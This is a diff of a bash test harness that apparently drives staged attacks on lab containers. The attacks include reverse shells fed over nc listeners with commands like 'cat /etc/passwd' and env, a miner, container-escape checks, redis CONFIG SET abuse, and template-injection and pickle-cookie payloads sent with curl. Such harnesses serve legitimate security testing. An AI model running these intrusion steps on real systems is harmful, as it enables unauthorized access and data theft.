@@ -7,8 +7,8 @@
 UPLOAD=/opt/upload
 declare -A LOOT_PORT=([redis]=9901 [nginx]=9902 [postgres]=9903 [webapp]=9904)
 declare -A SHELL_PORT=([redis]=4401 [nginx]=4402 [postgres]=4403 [webapp]=4404)
-# Far more than they take: a limit for what hangs, not for a slow machine.
-ATTACK_SECONDS=300
+# A limit for what hangs.
+ATTACK_SECONDS=60
 
 # service | attack | variant | after it the service is started afresh | how
 INTRUSIONS='redis|job by CONFIG SET|at once||redis_job 0 save
@@ -86,11 +86,6 @@ start_listeners() {
 	done
 }
 
-# within NAME PATH: a file of the container, as seen from outside
-within() {
-	echo "$STATE/$1/rootfs$2"
-}
-
 # loot NAME PATTERN: whether the attack brought it in
 loot() {
 	grep -aqE "$2" "$(within "$1" /tmp/loot)"
@@ -152,13 +147,13 @@ wipe() {
 }
 
 miner() {
-	by "$1" "./miner ${LOOT_PORT[$1]} 4"
-	grep -q submit "/tmp/loot.$1"
+	by "$1" "./miner ${LOOT_PORT[$1]} 20"
+	await 20 grep -q submit "/tmp/loot.$1"
 }
 
 spells() {
 	by "$1" "./spells.sh $2 ${LOOT_PORT[$1]} 4"
-	grep -q submit "/tmp/loot.$1"
+	await 20 grep -q submit "/tmp/loot.$1"
 }
 
 escape_program() {
@@ -171,46 +166,12 @@ escape_shell() {
 	loot "$1" '^CapEff'
 }
 
-listening() {
-	ss -ltn | grep -q ":$1 "
-}
-
-# typed NAME PAUSE LINE...: somebody at the other end of a reverse shell; what comes back is
-# in /tmp/shell.NAME
-typed() {
-	local name=$1 pause=$2
-
-	shift 2
-	for line in "$@"; do
-		sleep "$pause"
-		echo "$line"
-	done | nc -l -p "${SHELL_PORT[$name]}" >"/tmp/shell.$name" &
-	await 30 listening "${SHELL_PORT[$name]}"
-}
-
 # reverse NAME PAUSE PROGRAM
 reverse() {
-	typed "$1" "$2" id 'uname -a' 'cat /etc/passwd' 'ls -la / /root /tmp' env \
+	typed "/tmp/shell.$1" "${SHELL_PORT[$1]}" "$2" id 'uname -a' 'cat /etc/passwd' 'ls -la / /root /tmp' env \
 		'find /etc -name "*.conf" | head' 'cat /proc/mounts' exit
 	by "$1" "./$3 ${SHELL_PORT[$1]}"
-	grep -q 'root:x:0' "/tmp/shell.$1"
-}
-
-redis_module() {
-	redis-cli module list | grep -q turn ||
-		redis-cli module load "$UPLOAD/redis-module.so"
-}
-
-# The service's own load saves, too, and redis refuses a save beside another.
-redis_save() {
-	local try
-
-	for try in $(seq 20); do
-		await 40 saved
-		redis-cli "$1" | grep -E '^(OK|Background saving started)' && return
-	done
-	echo "redis would not save, asked $try times"
-	return 1
+	await 20 grep -q 'root:x:0' "/tmp/shell.$1"
 }
 
 redis_job() {
@@ -222,7 +183,7 @@ redis_job() {
 		sleep "$1"
 	done
 	redis_save "$2"
-	await 40 saved
+	await 20 saved
 	redis-cli config set dir /data
 	redis-cli config set dbfilename dump.rdb
 	redis-cli del job
@@ -256,7 +217,7 @@ redis_replica() {
 	local copy=/tmp/copy.rdb
 
 	rm -f "$copy"
-	timeout 40 redis-cli --rdb "$copy"
+	timeout $((40 * PATIENCE)) redis-cli --rdb "$copy"
 	[ "$(stat -c %s "$copy")" -gt 100 ]
 }
 
@@ -408,8 +369,8 @@ webapp_send() {
 
 	payload=$(python3 attacks/payload.py "$1" "attacks/$2" "${@:3}")
 	case $1 in
-	template) curl -s -G --max-time 60 --data-urlencode "text=$payload" "$SHOP/hello" ;;
-	pickle) curl -s --max-time 60 -H "Cookie: session=$payload" "$SHOP/account" ;;
+	template) curl -s -G --max-time $((60 * PATIENCE)) --data-urlencode "text=$payload" "$SHOP/hello" ;;
+	pickle) curl -s --max-time $((60 * PATIENCE)) -H "Cookie: session=$payload" "$SHOP/account" ;;
 	esac
 }
 
@@ -422,10 +383,10 @@ webapp_run() {
 # webapp_reverse HOW PAUSE
 webapp_reverse() {
 	if [ "$1" = inside ]; then
-		typed webapp "$2" 'os.getuid()' 'os.listdir("/")' 'open("/etc/passwd").read()' \
+		typed /tmp/shell.webapp "${SHELL_PORT[webapp]}" "$2" 'os.getuid()' 'os.listdir("/")' 'open("/etc/passwd").read()' \
 			'os.environ' 'open("/proc/mounts").read()' 'os.listdir("/srv/data")' exit
 	else
-		typed webapp "$2" id 'cat /etc/passwd' 'ls -la / /root /tmp' env exit
+		typed /tmp/shell.webapp "${SHELL_PORT[webapp]}" "$2" id 'cat /etc/passwd' 'ls -la / /root /tmp' env exit
 	fi
 	webapp_send pickle shell.py "HOW=$1" "PORT=${SHELL_PORT[webapp]}"
 	await 60 eval "! listening ${SHELL_PORT[webapp]} && ! pgrep -f 'nc -l -p ${SHELL_PORT[webapp]}'" \
